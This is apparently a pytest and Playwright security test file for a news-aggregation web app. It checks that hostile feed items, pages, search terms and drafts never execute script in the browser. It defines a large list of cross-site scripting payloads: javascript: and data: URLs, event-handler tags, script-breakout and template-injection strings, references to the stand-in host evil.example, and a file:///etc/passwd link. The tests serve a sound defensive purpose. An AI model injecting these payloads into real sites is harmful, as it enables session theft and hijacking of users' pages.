"""A feed and pages full of script: none of it runs in the real browser, wherever the desk shows it."""

from __future__ import annotations

import html
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from desk_server import Running, serving
from playwright.sync_api import Page

from dateline.desk import open_desk

Tab = Callable[..., Page]
CALL = "window.pwned=1;alert(1)"
TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "iframe",
    "input",
    "details",
    "marquee",
    "object",
    "embed",
    "math",
    "form",
)
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter")
URLS = (
    "javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "java\nscript:{c}", " javascript:{c}", "\x01javascript:{c}",
    "javascript&colon;{c}", "&#106;avascript:{c}", "data:text/html,<script>{c}</script>", "vbscript:{c}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:{c}", "filesystem:{c}", "file:///etc/passwd",
    "//evil.example/x.js", "https://evil.example/\"onmouseover=\"{c}", "https://evil.example/'onfocus='{c}",
    "https://evil.example/?</a><script>{c}</script>", "feed:javascript:{c}", "view-source:javascript:{c}",
)  # fmt: skip
WHOLE = (
    "<script>{c}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script/x>{c}</script>", "</script><script>{c}</script>", "</title><script>{c}</script>",
    "</textarea><script>{c}</script>", "</style><script>{c}</script>", "-->\"'><script>{c}</script>",
    "<![CDATA[<script>{c}</script>]]>", "<style>@import'//evil.example/x.css';</style>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<iframe srcdoc='<script>{c}</script>'>", "<iframe src=javascript:{c}>", "<object data=javascript:{c}>",
    "<embed src=javascript:{c}>", "<svg><script>{c}</script></svg>", "<svg><a xlink:href=javascript:{c}>x</a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload={c}>'/></svg>", "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><foreignObject><script>{c}</script></foreignObject></svg>",
    "<math><mtext><img src=x onerror={c}></mtext></math>",
    "<form action=javascript:{c}><button>x", "<button formaction=javascript:{c}>x", "<isindex action=javascript:{c}>",
    "<template><script>{c}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={c}>\">",
    "{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}", "{{% raw %}}<script>{c}</script>{{% endraw %}}",
    "&lt;script&gt;{c}&lt;/script&gt;", "&amp;lt;script&amp;gt;{c}", "\u003cscript\u003e{c}\u003c/script\u003e",
    "%3Cscript%3E{c}%3C/script%3E", "+ADw-script+AD4-{c}+ADw-/script+AD4-", "\u202e<script>{c}</script>",
    "\uff1cscript\uff1e{c}", "<img src='x' onerror='{c}'//", "<a href='x' style='behavior:url(#x)'>x</a>",
    "<p style=\"background:url('javascript:{c}')\">x</p>", "<xss id=x tabindex=1 onfocus={c} autofocus>",
    "\" autofocus onfocus=\"{c}", "' autofocus onfocus='{c}", "` onfocus={c} autofocus `", "\"><svg onload={c}>",
)  # fmt: skip


def vectors() -> list[str]:
    """Every vector, with the call that would tell of it."""
    events = [f"<{tag} src=x {event}={CALL} autofocus open>" for tag in TAGS for event in EVENTS]
    links = [f'<a href="{url.format(c=CALL)}">x</a>' for url in URLS]
    return [*events, *links, *(w.format(c=CALL) for w in WHOLE)]


VECTORS = vectors()


LANDS = ("Kenya", "Peru", "Japan", "Norway", "Egypt", "Chile", "India", "Ghana", "Spain", "Fiji", "Nepal", "Mali")
EACH = 10  # vectors in one item


def bundles() -> list[tuple[int, list[str]]]:
    """The vectors in bundles, so that every one is shown and few articles have to be read."""
    return [(n, VECTORS[at : at + EACH]) for n, at in enumerate(range(0, len(VECTORS), EACH))]


def feed_items() -> list[dict[str, str]]:
    """The vectors as headline, byline, outlet, address and text of items."""
    items = []
    for n, some in bundles():
        address = URLS[n % len(URLS)].format(c=CALL) if n % 2 else f"https://a.example/{n}"
        told = " ".join(f"Then {LANDS[(n + m) % 12]} voted {v} again." for m, v in enumerate(some))
        items.append({
            "url": address,
            "headline": f"{some[0]} Parliament of {LANDS[n % 12]} votes {some[1 % len(some)]}",
            "byline": f"By {some[2 % len(some)]}",
            "outlet": f"Outlet {some[3 % len(some)]}"[:90],
            "published": f"2024-0{1 + n % 9}-1{n % 10}",
            "text": f"Parliament in {LANDS[n % 12]} voted on {1 + n} May 2024 to join the League.\n\n{told}",
        })  # fmt: skip
    return items


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """A desk that has read nothing but attacks: as JSON lines, and as a feed and a page of markup."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "a.jsonl").write_text("\n".join(map(json.dumps, feed_items())), "utf-8")
    entries = "".join(_entry(n, some) for n, some in bundles()[::2])
    feed = f'<rss version="2.0"><channel><title>B{html.escape(VECTORS[0])}</title>{entries}</channel></rss>'
    (folder / "b.xml").write_text(feed, "utf-8")
    body = "".join(f"<p>Ministers met in Rome on {n} May 2024. {v}</p>" for n, v in enumerate(VECTORS[::9], 1))
    page = f"<html><title>{VECTORS[-1]}</title><body><article>{body}</article></body></html>"
    (folder / "c.html").write_text(page, "utf-8")
    store = folder / "hostile.sqlite"
    with open_desk(store) as desk:
        desk.add([folder])
        desk.job("dossier.new", name=f"Votes {VECTORS[0]}", query="Parliament votes")
    with serving(store) as running:
        yield running


def _entry(n: int, some: list[str]) -> str:
    told = " ".join(v.replace("]]>", "") for v in some)
    return (
        f"<item><title>{html.escape(some[0])} {n}</title><link>https://b.example/{n}</link>"
        f"<description><![CDATA[<p>The League met in Paris on {1 + n} June 2024. {told}</p>]]></description></item>"
    )


def test_there_are_enough_of_them() -> None:
    assert len(set(VECTORS)) >= 150


def shown(hostile: Running) -> list[str]:
    """The pages on which what the articles say is shown."""
    found = hostile.ask("/search.json?query=Parliament+League+votes&limit=100").data["data"]["found"]
    articles = [f["article"]["article"] for f in found]
    stories = [s["story"] for s in hostile.ask("/stories.json?limit=100").data["data"]["stories"]]
    claims = hostile.ask(f"/show/{articles[0]}.json").data["data"]["article"]["claims"]
    things = [f"/show/{a}" for a in (*articles[:4], *(c["claim"] for c in claims[:1]))]
    dossier = hostile.ask("/dossier.json").data["data"]["dossiers"][0]["name"]
    return [
        "/?since=36500d", "/stories?limit=300", "/search?query=Parliament+League+votes&limit=100", "/outlets",
        "/coverage", "/chronology?query=Parliament+votes", "/disagreements", "/state?query=Parliament+votes",
        "/positions?query=Parliament",
        f"/compare?articles={articles[0]}&articles={articles[1]}", f"/dossier/{dossier}",
        *things, *(f"/story/{s}" for s in stories[:3]),
    ]  # fmt: skip


def test_nothing_of_it_runs_on_any_page(hostile: Running, tab: Tab) -> None:
    page = tab(hostile, "/help")
    for path in shown(hostile):
        page.goto(hostile.root + path, wait_until="load")
        page.mouse.move(300, 500)
        page.keyboard.press("Tab")
        told = page.evaluate(
            """() => ({
              pwned: window.pwned ?? null,
              scripts: document.querySelectorAll('script').length,
              frames: document.querySelectorAll('iframe, object, embed, base, meta[http-equiv], style').length,
              handlers: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(
                a => a.name.startsWith('on') || a.name === 'style')).length,
              links: [...document.querySelectorAll('a[href], form[action], [formaction]')].map(
                e => new URL(e.href?.baseVal ?? e.href ?? e.action, document.baseURI)).filter(
                u => !/^https?:$/.test(u.protocol)).length,
              loose: [...document.querySelectorAll('a[href^="http"]')].filter(
                a => a.origin !== location.origin && !/noopener/.test(a.rel)).length,
            })"""
        )
        assert told == {"pwned": None, "scripts": 1, "frames": 0, "handlers": 0, "links": 0, "loose": 0}, path


TYPED = ("/search?query=", "/chronology?query=", "/actors/", "/show/", "/glance?region=", "/stories?query=")


def test_nothing_that_is_typed_runs(hostile: Running, tab: Tab) -> None:
    page = tab(hostile, "/help", expect_wrong=True)
    for n, vector in enumerate(VECTORS[:: len(VECTORS) // 18]):
        page.goto(hostile.root + TYPED[n % len(TYPED)] + quote(vector, safe=""), wait_until="load")
        assert page.evaluate("[window.pwned ?? null, document.querySelectorAll('script').length]") == [None, 1]


def test_nothing_that_is_typed_comes_back_as_markup(hostile: Running) -> None:
    for n, vector in enumerate(VECTORS[::3]):
        text = hostile.page(TYPED[n % 4] + quote(vector, safe="")).text
        assert text.count("<script") == 1 and (vector not in text or not set("<>\"'") & set(vector))


def test_a_draft_does_not_run(hostile: Running, tab: Tab) -> None:
    page = tab(hostile, "/check")
    page.locator("#draft").fill("\n".join(f"Parliament voted. {v}" for v in VECTORS[::8]))
    page.get_by_role("button", name="Check").click()
    page.wait_for_selector(".verdict")
    assert page.evaluate("[window.pwned ?? null, document.querySelectorAll('script').length]") == [None, 1]


def test_data_and_feeds_are_never_taken_for_pages(hostile: Running) -> None:
    for path in ("/search.json?query=Parliament", "/search.atom?query=Parliament", "/stories.atom"):
        headers = hostile.page(path).headers
        assert "html" not in headers["content-type"] and headers["x-content-type-options"] == "nosniff"


def test_a_file_is_no_link(hostile: Running, tmp_path: Path) -> None:
    text = hostile.page("/search?query=Parliament+League+votes&limit=100").text
    assert 'href="file:' not in text and 'data-original="file:' not in text and 'data-original="java' not in text
